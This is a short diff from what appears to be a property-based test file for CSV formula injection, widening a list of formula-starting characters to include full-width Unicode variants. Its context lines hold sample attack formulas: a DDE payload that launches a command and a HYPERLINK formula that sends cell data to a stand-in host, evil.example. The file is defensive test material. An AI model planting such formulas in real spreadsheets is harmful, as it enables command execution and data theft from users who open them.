@@ -73,7 +73,7 @@ def mostly(
 text_chars = st.characters(codec="utf-8")
 
 #: What spreadsheets take for the start of a formula (OWASP's CSV injection list).
-FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 FORMULAS = [
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
